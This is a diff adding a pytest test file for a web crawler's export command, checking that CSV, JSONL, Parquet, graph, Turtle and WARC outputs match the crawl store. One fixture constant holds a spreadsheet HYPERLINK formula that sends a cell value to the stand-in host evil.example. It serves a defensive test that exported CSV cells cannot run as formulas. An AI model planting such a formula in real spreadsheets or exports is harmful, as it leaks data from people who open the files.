@@ -1,0 +1,218 @@
+"""`ontocrawl export`: what it writes opens in the programs that it is for, and says what the store says."""
+
+import contextlib
+import csv
+import json
+import sys
+import xml.etree.ElementTree as ET
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from browser_fixtures import command
+from warc_records import response_record
+
+from cli.exchange.export import Form, Pages, run
+from cli.exchange.table_files import read_csv
+from cli.exchange.written_files import written_beside
+from crawler.archive.rebuilt_pages import rebuilt_html
+from crawler.archive.stored_pages import kept_answers
+from crawler.archive.warc_source import ArchiveSource
+from graphdb.record.graph_store import GraphStore
+from graphdb.stores import open_store
+from ontology.errors import SettingsError
+from semantic.page import Page
+from semantic.parsing.page_reader import read_page
+
+pytestmark = pytest.mark.slow
+
+HTML = {"content-type": "text/html; charset=utf-8"}
+HOST = "http://tea.example:8080"
+FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,'x')"
+ONTOLOGY = """@prefix : <http://onto.example/tea#> .
+@prefix owl: <http://www.w3.org/2002/07/owl#> .
+@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
+@prefix oc: <https://w3id.org/ontocrawl#> .
+<http://onto.example/tea> a owl:Ontology ; oc:topic :Tea .
+:Tea a owl:Class ; rdfs:label "tea"@en , "茶"@zh ; oc:weight 1.0 .
+:Green a owl:Class ; rdfs:subClassOf :Tea ; rdfs:label "green tea"@en , "绿茶"@zh ; oc:weight 1.0 .
+"""
+PAGES = {
+    "/": ("Start", "".join(f'<a href="/{name}">{name} green tea</a> ' for name in ("green", "zh", "evil", "cars"))),
+    "/green": ("Green tea", "<h1>All of green tea</h1><p>Green <b>tea</b> is <strong>tea</strong>.</p>" * 3),
+    "/zh": ("绿茶", "<h2>绿茶</h2><p>绿茶是未发酵的茶。<a href='/more?a=1&amp;b=\"x\"' title='t'>更多绿茶</a></p>" * 3),
+    "/evil": (FORMULA, "<p>Green tea &lt;script&gt; & \x0b tea.</p>" * 3),
+    "/cars": ("Cars", "<p>Engines and wheels. <a href='/'><img alt='home'></a></p>" * 3),
+}
+
+
+def head(html: bytes) -> bytes:
+    return b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: %d\r\n\r\n" % len(html)
+
+
+@pytest.fixture(scope="module")
+def store(tmp_path_factory) -> Iterator[str]:
+    """A small crawl, its server kept open for all tests of this file."""
+    made = tmp_path_factory.mktemp("exchange")
+    (made / "tea.ttl").write_text(ONTOLOGY, encoding="utf-8")
+    records = []
+    for path, (title, body) in PAGES.items():
+        html = f"<html><head><title>{title.replace('<', '&lt;')}</title></head><body>{body}</body></html>".encode()
+        records.append(response_record(HOST + path, head(html) + html))
+    (made / "web.warc").write_bytes(b"".join(records))
+    given = (
+        f"--ontology tea.ttl --seeds {HOST}/ --archive web.warc --store store --max-pages 5 --threshold 0.2 --lang en"
+    )
+    with contextlib.closing(open_store(str(made / "store"))):
+        with command(made, "crawl", *given.split(), "--delay", "0", "--connections", "1") as crawl:
+            _, told = crawl.communicate(timeout=60)
+        assert crawl.returncode == 0, told
+        yield str(made / "store")
+
+
+def asked(store: str, cypher: str) -> list[dict]:
+    with contextlib.closing(open_store(store, create=False)) as opened:
+        return [dict(row) for row in opened.query(cypher).rows]
+
+
+def written(store: str, form: Form, out: Path, pages: Pages = Pages.ALL, *, text: bool = False) -> Path:
+    assert run(store, form, out, pages, with_text=text) == 0
+    return out
+
+
+def test_csv_has_every_row_and_excel_s_mark(store, tmp_path):
+    out = written(store, Form.CSV, tmp_path / "tables")
+    tables = {path.stem: path for path in out.iterdir()}
+    assert set(tables) == {"pages", "links", "mentions", "concepts", "sites", "crawl"}
+    assert tables["pages"].read_bytes().startswith(b"\xef\xbb\xbf")
+    pages = {row["url"]: row for row in read_csv(tables["pages"])}
+    assert {url: row["status"] for url, row in pages.items()} == {
+        row["url"]: row["status"] for row in asked(store, "MATCH (p:Page) RETURN p.url AS url, p.status AS status")
+    }
+    assert pages[HOST + "/zh"]["title"] == "绿茶"
+    assert pages[HOST + "/zh"]["discovered_from"] == HOST + "/"
+    (links,) = asked(store, "MATCH (:Page)-[l:LINKS_TO]->(:Page) RETURN count(l) AS links")
+    assert len(list(read_csv(tables["links"]))) == links["links"]
+
+
+def test_no_cell_of_csv_is_a_formula(store, tmp_path):
+    out = written(store, Form.CSV, tmp_path, text=True)
+    for path in out.glob("*.csv"):
+        with path.open(encoding="utf-8-sig", newline="") as file:
+            cells = [cell for row in csv.reader(file) for cell in row]
+        assert cells
+        assert [cell for cell in cells if cell[:1] in tuple("=+-@\t\r") and not is_number(cell)] == []
+    (evil,) = [row for row in read_csv(out / "pages.csv") if row["url"].endswith("/evil")]
+    assert evil["title"] == FORMULA
+
+
+def is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def test_jsonl_and_parquet_say_the_same(store, tmp_path):
+    from pyarrow import parquet
+
+    lines = written(store, Form.JSONL, tmp_path / "jsonl", text=True)
+    columns = written(store, Form.PARQUET, tmp_path / "parquet", text=True)
+    for name in ("pages", "links", "mentions", "concepts", "sites", "crawl"):
+        rows = [json.loads(line) for line in (lines / f"{name}.jsonl").read_text("utf-8").split("\n") if line]
+        assert rows == parquet.read_table(columns / f"{name}.parquet").to_pylist()
+    (zh,) = [row for row in map(json.loads, (lines / "pages.jsonl").open(encoding="utf-8")) if row["title"] == "绿茶"]
+    assert "绿茶是未发酵的茶。" in zh["text"]
+
+
+def test_parquet_without_pyarrow_tells_how_to_get_it(store, tmp_path, monkeypatch):
+    monkeypatch.setitem(sys.modules, "pyarrow", None)
+    with pytest.raises(SettingsError) as caught:
+        run(store, Form.PARQUET, tmp_path / "x", Pages.ALL, with_text=False)
+    assert "ontocrawl[parquet]" in caught.value.cure
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize("form", [Form.GRAPHML, Form.GEXF])
+def test_a_graph_has_the_pages_wanted_and_their_links(store, tmp_path, form):
+    root = ET.parse(written(store, form, tmp_path / f"crawl.{form}", Pages.FETCHED)).getroot()
+    space = root.tag.partition("}")[0] + "}"
+    nodes = {node.get("id"): node for node in root.iter(f"{space}node")}
+    ends = [(edge.get("source"), edge.get("target")) for edge in root.iter(f"{space}edge")]
+    (there,) = asked(
+        store,
+        "MATCH (p:Page {status: 'fetched'})-[l:LINKS_TO]->(:Page {status: 'fetched'}) RETURN count(l) AS links",
+    )
+    assert len(nodes) == len(PAGES)
+    assert len(ends) == there["links"] > 0
+    assert {end for pair in ends for end in pair} <= nodes.keys()
+    told = ET.tostring(root, encoding="unicode")
+    assert "绿茶" in told and HOST + "/zh" in told
+
+
+def test_turtle_types_pages_with_the_ontology_s_classes(store, tmp_path):
+    from rdflib import RDF, Graph, Namespace, URIRef
+
+    graph = Graph().parse(written(store, Form.TTL, tmp_path / "crawl.ttl"), format="turtle")
+    tea, schema = Namespace("http://onto.example/tea#"), Namespace("https://schema.org/")
+    prov, oc = Namespace("http://www.w3.org/ns/prov#"), Namespace("https://w3id.org/ontocrawl#")
+    page = URIRef(HOST + "/zh")
+    assert {schema.WebPage, tea.Green} <= set(graph.objects(page, RDF.type))
+    assert URIRef(HOST + "/cars") not in set(graph.subjects(RDF.type, tea.Green))
+    (capture,) = graph.subjects(prov.specializationOf, page)
+    (activity,) = graph.objects(capture, prov.wasGeneratedBy)
+    assert (activity, RDF.type, prov.Activity) in graph
+    assert graph.value(capture, prov.generatedAtTime).toPython().year > 2000
+    (links,) = asked(store, "MATCH (:Page)-[l:LINKS_TO]->(:Page) RETURN count(l) AS links")
+    assert len(list(graph.subject_objects(oc.linksTo))) == links["links"]
+
+
+def test_a_warc_gives_back_what_the_store_kept(store, tmp_path):
+    out = written(store, Form.WARC, tmp_path / "crawl.warc.gz")
+    archived = {fetched.url: fetched for _, fetched in ArchiveSource(out).answers()}
+    with contextlib.closing(open_store(store, create=False)) as opened:
+        assert isinstance(opened, GraphStore)
+        kept = {held.url: held for held in kept_answers(opened.kept_pages())}
+    assert archived.keys() == kept.keys()
+    for url, held in kept.items():
+        assert archived[url].status == held.status
+        if held.page:
+            read = read_page(archived[url].body, url, HTML)
+            assert (read.text, read.spans, said(read)) == (held.page.text, held.page.spans, said(held.page))
+
+
+def said(page: Page) -> list[tuple]:
+    return [(link.url, link.anchor, link.title, link.start, link.end, link.rel) for link in page.links]
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        "<p>a <b>b</b><strong>c</strong> d</p><h1>x <a href='/y'>y <b>z</b></a></h1><a href='/i'><img alt='i'></a>",
+        "plain &amp; &lt;b&gt;<p></p><ul><li><a rel='nofollow me' href='/1'>one</a><li><a href='/2'></a></ul>",
+        "<a href='/first'>first</a> <a href='http://a.example/'>here</a> <a href='javascript:x()'>it</a>",
+        "",
+    ],
+)
+def test_html_made_of_a_page_reads_as_that_page(body):
+    html = f"<html lang=zh><head><title>T &amp; t</title></head><body>{body}</body></html>"
+    page = read_page(html.encode(), "http://a.example/", HTML)
+    again = read_page(rebuilt_html(page).encode(), "http://a.example/", HTML)
+    assert (again.title, again.text, again.spans, said(again)) == (page.title, page.text, page.spans, said(page))
+
+
+def test_what_fails_leaves_nothing_and_keeps_what_was(tmp_path):
+    (tmp_path / "kept.csv").write_text("before")
+    with pytest.raises(RuntimeError), written_beside() as place:
+        place(tmp_path / "kept.csv").write_text("half")
+        raise RuntimeError
+    assert {path.name: path.read_text() for path in tmp_path.iterdir()} == {"kept.csv": "before"}
+    with written_beside() as place:
+        place(tmp_path / "kept.csv").write_text("whole")
+    assert {path.name: path.read_text() for path in tmp_path.iterdir()} == {"kept.csv": "whole"}
+
+
+def test_a_table_of_semicolons_is_read_as_such(tmp_path):
+    (tmp_path / "t.csv").write_bytes("\ufeffurl;Title\nhttp://a.example/;'=1+1\n".encode())
+    assert list(read_csv(tmp_path / "t.csv")) == [{"url": "http://a.example/", "title": "=1+1"}]
